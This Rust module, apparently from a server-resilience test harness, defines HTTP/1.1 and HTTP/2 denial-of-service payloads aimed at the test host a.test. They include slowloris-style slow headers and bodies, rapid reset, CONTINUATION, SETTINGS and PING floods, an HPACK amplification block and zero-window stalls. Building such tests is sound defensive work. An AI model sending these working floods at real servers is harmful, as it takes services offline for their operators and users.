//! What attackers send.

use std::time::Duration;

/// An attack: what each of its connections sends, again and again if it is cut off.
#[derive(Clone, Copy)]
pub struct Kind {
    pub name: &'static str,
    /// Connections at once.
    pub connections: usize,
    /// What a connection begins with.
    pub first: fn() -> Vec<u8>,
    /// What follows, for the n-th time; nothing is the end of it, and the connection stays.
    pub again: fn(u32) -> Vec<u8>,
    /// Between the two.
    pub pause: Duration,
    /// Whether it reads what is answered.
    pub reads: bool,
}

impl Kind {
    /// Whether it speaks HTTP/2.
    pub fn is_framed(&self) -> bool {
        (self.first)().starts_with(b"PRI ")
    }
}

const SETTINGS: u8 = 4;
const DATA: u8 = 0;
const HEADERS: u8 = 1;
const PRIORITY: u8 = 2;
const RST_STREAM: u8 = 3;
const PING: u8 = 6;
const WINDOW_UPDATE: u8 = 8;
const CONTINUATION: u8 = 9;

/// GET http://a.test/ (RFC 7541, appendix A).
const GET: &[u8] = b"\x82\x86\x84\x41\x06a.test";
/// The same of `/big`.
const GET_BIG: &[u8] = b"\x82\x86\x04\x04/big\x41\x06a.test";
/// POST.
const POST: &[u8] = b"\x83\x86\x84\x41\x06a.test";

const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

pub fn all() -> Vec<Kind> {
    let kind = |name, first, again| Kind {
        name,
        connections: 20,
        first,
        again,
        pause: Duration::from_millis(1),
        reads: true,
    };
    let mut kinds = vec![
        kind(
            "slow heads",
            || b"GET / HTTP/1.1\r\nhost: a.test\r\nx: ".to_vec(),
            |_| b"y".to_vec(),
        ),
        kind(
            "slow bodies",
            || b"POST / HTTP/1.1\r\nhost: a.test\r\ncontent-length: 1000000\r\n\r\n".to_vec(),
            |_| b"y".to_vec(),
        ),
        kind("rapid reset", preface, |n| {
            let streams = (0..50).map(|at| 2 * (50 * n + at) + 1);
            let pair = |stream| {
                let mut pair = frame(HEADERS, END_HEADERS | END_STREAM, stream, GET);
                pair.extend(frame(RST_STREAM, 0, stream, &8_u32.to_be_bytes()));
                pair
            };
            streams.flat_map(pair).collect()
        }),
        kind(
            "CONTINUATION",
            || [preface(), frame(HEADERS, 0, 1, GET)].concat(),
            |_| frame(CONTINUATION, 0, 1, &b"\0\x01x\x04yyyy".repeat(100)),
        ),
        kind("SETTINGS", preface, |_| {
            frame(SETTINGS, 0, 0, &[]).repeat(100)
        }),
        kind("PING", preface, |_| frame(PING, 0, 0, &[7; 8]).repeat(100)),
        kind("PRIORITY", preface, |_| {
            frame(PRIORITY, 0, 1, &[0, 0, 0, 0, 9]).repeat(100)
        }),
        kind("WINDOW_UPDATE", preface, |_| {
            frame(WINDOW_UPDATE, 0, 0, &[0, 0, 0, 1]).repeat(100)
        }),
        kind(
            "empty DATA",
            || [preface(), frame(HEADERS, END_HEADERS, 1, POST)].concat(),
            |_| frame(DATA, 0, 1, &[]).repeat(100),
        ),
        // One entry of the table, of 4,000 bytes, again and again in one head.
        kind("HPACK", preface, |n| {
            let mut block = GET.to_vec();
            block.extend(b"\x40\x01x\x7f\xa1\x1e");
            block.extend([b'y'; 4000]);
            block.extend([0xbe; 12_000]);
            frame(HEADERS, END_HEADERS | END_STREAM, 2 * n + 1, &block)
        }),
        // Answers of a mebibyte that nobody makes room for.
        kind(
            "no window",
            || {
                let mut first = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
                first.extend(frame(SETTINGS, 0, 0, &[0, 4, 0, 0, 0, 1]));
                let streams = (0..100).map(|at| 2 * at + 1);
                let ask = |stream| frame(HEADERS, END_HEADERS | END_STREAM, stream, GET_BIG);
                first.extend(streams.flat_map(ask));
                first
            },
            |_| Vec::new(),
        ),
        // Answers that nobody reads.
        kind(
            "unread",
            || b"GET /big HTTP/1.1\r\nhost: a.test\r\n\r\n".repeat(50),
            |_| Vec::new(),
        ),
    ];
    for kind in &mut kinds {
        kind.reads = !matches!(kind.name, "PING" | "SETTINGS" | "unread");
    }
    kinds
}

fn preface() -> Vec<u8> {
    [
        b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec(),
        frame(SETTINGS, 0, 0, &[]),
    ]
    .concat()
}

/// RFC 9113 §4.1.
fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap().to_be_bytes();
    let head = [&length[1..], &[kind, flags], &stream.to_be_bytes()].concat();
    [&head, payload].concat()
}
